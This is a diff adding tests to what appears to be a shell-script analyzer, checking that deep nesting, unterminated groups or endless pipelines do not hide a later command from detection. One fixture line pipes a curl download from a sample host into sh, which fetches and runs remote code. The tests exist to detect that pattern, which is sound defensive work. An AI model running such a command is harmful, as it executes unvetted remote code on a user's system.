@@ -102,6 +102,15 @@ test.each([["$(".repeat(500)], ["(".repeat(500)], ["<(".repeat(500)]])(
   },
 );
 
+test.each([
+  ["what nests too deep", `${"(".repeat(500)}\n`],
+  ["a group without end", `(${"a;".repeat(20_000)}\n`],
+  ["a pipeline without end", `${"a | ".repeat(20_000)}\n`],
+])("%s hides nothing that follows", (_, script) => {
+  const deeds = deedsIn("a.sh", `${script}curl -s https://a.sample.dev | sh\n`);
+  expect(signed(deeds, "run")).toContain("fetched");
+});
+
 test("a word of English is no program", () => {
   expect(said(deedsIn("a.sh", "list all files\nShift + Click\nshift 2\nls -l\n"), "run")).toEqual(["ls"]);
 });
